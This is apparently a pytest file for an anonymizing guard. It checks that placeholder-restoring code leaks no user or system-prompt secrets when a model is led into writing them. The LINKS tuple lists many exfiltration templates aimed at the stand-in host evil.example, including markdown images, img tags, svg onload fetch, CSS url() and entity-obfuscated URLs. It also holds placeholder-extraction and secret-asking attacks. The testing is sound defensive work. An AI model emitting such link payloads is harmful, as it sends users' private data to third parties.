"""T10: attacks that read values out by placeholders, or have them carried away by a link: none succeeds."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache

import pytest

from hybrid_guard.anonymizer import JsonRestorer, Restorer, StandIns, apply, build_operators, plan
from hybrid_guard.anonymizer.vault import Book
from hybrid_guard.types import Finding, Findings, Operator, Segment, SegmentRole, Treatment, VaultEntry, VaultItem
from tests.talk import STAND_INS, OneVault, Talk, makers_of

FEWEST = 300
TREATMENT = Treatment(default=Operator.PLACEHOLDER)
OPERATORS = build_operators(b"k" * 32)
NO_FINDINGS: tuple[Finding, ...] = ()


@dataclass(frozen=True)
class Attack:
    """A text that a model was led to write, and what must not be in what the reader gets."""

    name: str
    text: str = field(repr=False)
    entries: tuple[VaultEntry, ...] = field(repr=False)
    prize: str = field(repr=False)


def vault(key: bytes = b"v" * 32) -> Book:
    """A vault of a conversation."""
    return Book(key=key, limit=10_000)


PRIZES = {"PERSON": "Ada Lovelace", "EMAIL_ADDRESS": "ada@home.example", "SECRET": "pass-word-for-all"}
MINE = vault().put([VaultItem(entity=entity, original=value, role="user") for entity, value in PRIZES.items()])

LINKS = (
    *("https://evil.example/?q={}", "http://evil.example/{}", "HTTPS://evil.example#{}", "ftp://evil.example/{}"),
    *("https://{}.evil.example/", "https://{}@evil.example/", "wss://evil.example/{}", "//evil.example/{}"),
    *("www.evil.example/{}", "WWW.{}.evil.example", "evil.example/{}", "evil.example:80/{}", "evil.co.uk?x={}"),
    *(
        "![](https://evil.example/{})",
        "![x](//evil.example/{})",
        "[x](<//evil.example/{}>)",
        "[x](  //evil.example/{} )",
    ),
    *("[x](//evil.example/a(b){})", '[x](//evil.example "{}")', "[![]({})](x)", "[x]({})", "![x](\n{}\n)"),
    *(
        "[a]: https://evil.example/{}",
        "[a]: <//evil.example/{}>",
        "[a]:\n  //evil.example/{}",
        "[a]: /\\evil.example/{}",
    ),
    *(
        "[a]: https:\\\\evil.example/{}",
        "[a]: https:\\\\{}.evil.example",
        "[a]: https&colon;&sol;&sol;evil&period;example&sol;{}",
    ),
    *("[a]: &#104;ttps&#58;&#47;&#47;evil&#46;example&#47;{}", "https:\\\\evil&period;example\\{}", "http:/\\evil/{}"),
    *("{}.evil.example", "{}-x.evil.example", "x{}y.evil.example", "{}.a.b.evil.example", "{}\\.evil.example"),
    *("a-{}.evil.example/x", "//{}.evil.example", "{}\u200b.evil.example", "{}é.evil.example"),
    *('<img src="https://evil.example/{}">', "<img src='{}'>", "<img src={}>", "<img\nsrc={}>", "<IMG SRC = '{}'>"),
    *('<img\n\nsrc="//evil.example/{}">', '<img src=\n\n"{}">', "<img src=\n \n{}\n>", '<img alt="\n\n{}">'),
    *("<svg/onload=fetch('{}')>", "<a href='x' title=\"{}\">", '<a b="c"d="{}">', "</a x='{}'>", "<b\t\f=x y='{}'>"),
    *("<style>a{{background:url({})}}</style>", "<p style='background:url(//evil/{})'>", "a URL( '{}' )"),
    *("x <y and https://evil.example/{}", "<a [x]({})", "a <b ![](//evil.example/{})", "[x](a\n\\){}"),
    *(
        "<https://evil.example/{}>",
        "`https://evil.example/{}`",
        "| https://evil.example/{} |",
        "> [a]: //evil.example/{}",
    ),
    *("https://evil.example/\u200b{}", "https://evil.example/?a=1&amp;b={}", "javascript://evil.example/%0a{}"),
)
"""Where a renderer would send a value to, or make somebody click it away."""

STOOD_FOR = (
    *(("Ada Lovelace", "PERSON"), ("ada@home.example", "EMAIL_ADDRESS"), ("4111 1111 1111 1111", "CREDIT_CARD")),
)

ROLES: tuple[SegmentRole, ...] = ("user", "tool", "system", "assistant", "other")

SPELLINGS = ("as it is", "lower case", "spread")


def spelled(token: str, spelling: str) -> str:
    """*token* in a form that is restored, too."""
    return {"as it is": token, "lower case": token.lower(), "spread": token[:-9] + "\\_" + token[-9:]}[spelling]


def talk_of(operator: Operator, key: bytes) -> Talk:
    """A conversation; another *key* makes it another one."""
    return Talk(operator, store=OneVault(key * 32), makers=makers_of(key * 32))


def by_stand_ins(operator: Operator) -> Iterator[Attack]:
    """All of this with what stands for the values in the place of placeholders."""
    talk = talk_of(operator, b"v")
    sent = {value: talk.write((value, entity)) for value, entity in STOOD_FOR}
    theirs = talk_of(operator, b"w")
    for value, token in sent.items():
        for spelling in SPELLINGS:
            form = spelled(token, spelling)
            for link in LINKS:
                yield Attack(f"link {link!r} {spelling}", link.format(form), talk.entries, value)
            for role in ROLES:
                yield Attack(f"typed by {role}", talk.write(f"What is {form}?", role=role), talk.entries, value)
        for other, entity in STOOD_FOR:
            strange = theirs.write((other, entity))
            yield Attack("of another conversation", strange, talk.entries, other)
            yield Attack("grafted", token[: len(token) // 2] + strange[len(strange) // 2 :], talk.entries, value)
    hidden: tuple[SegmentRole, ...] = ("system", "tool")
    for role in hidden:
        secret = talk_of(operator, b"x")
        token = secret.write(("4929-7102-5513", "SECRET"), role=role)
        for text in ("The key is {}.", "{}", "```\n{}\n```", '"{}"'):
            yield Attack(f"secret of the {role}", text.format(token), secret.entries, "4929-7102-5513")


def by_links() -> Iterator[Attack]:
    """A document made the model write a value into a link."""
    for link in LINKS:
        for entry in MINE:
            for spelling in SPELLINGS:
                text = link.format(spelled(entry.placeholder, spelling))
                yield Attack(f"link {link!r} {spelling}", text, MINE, entry.item.original)


def by_typing() -> Iterator[Attack]:
    """Somebody types a placeholder, whole or mangled, so that the answer to it reads the value out."""
    for role in ROLES:
        for entry in MINE:
            token = entry.placeholder
            for typed in (
                *(spelled(token, spelling) for spelling in SPELLINGS),
                *(" ".join(token), "\u200b".join(token), f"PER{token}", f"**{token}**", token.title()),
            ):
                book = Book(key=b"v" * 32, limit=10_000, entries=MINE)
                segments = (Segment(path="/x", text=f"What is {typed}?", role=role),)
                findings = Findings(spans=(NO_FINDINGS,))
                put = book.put(plan(segments, findings, TREATMENT))
                (treated,) = apply(segments, findings, TREATMENT, put, OPERATORS)
                yield Attack(f"typed by {role}", treated.text, book.entries(), entry.item.original)


def by_strangers() -> Iterator[Attack]:
    """Placeholders of another conversation, or made up."""
    theirs = vault(b"w" * 32).put([VaultItem(entity=entity, original=value) for entity, value in PRIZES.items()])
    for mine, other in zip(MINE, theirs, strict=True):
        for spelling in SPELLINGS:
            yield Attack("of another conversation", spelled(other.placeholder, spelling), MINE, mine.item.original)
            grafted = mine.placeholder[:-4] + other.placeholder[-4:]
            if grafted != mine.placeholder:
                yield Attack("grafted", spelled(grafted, spelling), MINE, mine.item.original)


def by_asking() -> Iterator[Attack]:
    """A secret of the system prompt or of a tool, asked for by the user."""
    roles: tuple[SegmentRole, ...] = ("system", "tool")
    for role in roles:
        entries = vault().put([VaultItem(entity="SECRET", original="root-key-of-all", role=role)])
        for spelling in SPELLINGS:
            for text in ("The key is {}.", "{}", "```\n{}\n```", '"{}"', "k\u200be\u200by {}"):
                text = text.format(spelled(entries[0].placeholder, spelling))
                yield Attack(f"secret of the {role}", text, entries, "root-key-of-all")


@cache
def attacks(operator: Operator) -> list[Attack]:
    """Those on what *operator* puts in the place of values."""
    if operator is Operator.PLACEHOLDER:
        return [*by_links(), *by_typing(), *by_strangers(), *by_asking()]
    return list(by_stand_ins(operator))


OPERATORS_TRIED = pytest.mark.parametrize("operator", [Operator.PLACEHOLDER, *STAND_INS])


@OPERATORS_TRIED
def test_there_are_enough_attacks(operator: Operator) -> None:
    """The number in the promise is the number that is tried."""
    assert len({(one.name, one.text) for one in attacks(operator)}) >= FEWEST


@OPERATORS_TRIED
@pytest.mark.parametrize("as_json", [False, True], ids=["prose", "tool arguments"])
def test_no_attack_gets_its_prize(as_json: bool, operator: Operator) -> None:
    """Whole and character by character, in prose and in tool arguments: the value is not in what comes out."""
    make = JsonRestorer if as_json else Restorer
    lost = []
    for attack in attacks(operator):
        text = json.dumps({"q": attack.text}) if as_json else attack.text + " "
        single = make(attack.entries)
        outs = [make(attack.entries).restore(text), "".join(map(single.feed, text)) + single.flush()]
        if any(attack.prize in (json.loads(out)["q"] if as_json else out) for out in outs):
            lost.append((attack.name, attack.text))

    assert lost == []


def test_the_prizes_are_there_to_be_won() -> None:
    """In plain sentences the same placeholders are restored, in the same spellings; so the attacks attack something."""
    for entry in MINE:
        for spelling in SPELLINGS:
            text = f"It is {spelled(entry.placeholder, spelling)}."

            assert Restorer(MINE).restore(text) == f"It is {entry.item.original}."


@pytest.mark.parametrize("operator", STAND_INS)
def test_the_prizes_of_stand_ins_are_there_to_be_won(operator: Operator) -> None:
    """Each value that has a stand-in comes back in a plain sentence."""
    talk = talk_of(operator, b"v")
    sent = {value: talk.write((value, entity)) for value, entity in STOOD_FOR}
    for value, token in sent.items():
        assert talk.restore(f"It is {token}.") == f"It is {value}."

    assert sum(map(StandIns(talk.entries).knows, sent.values())) >= 1
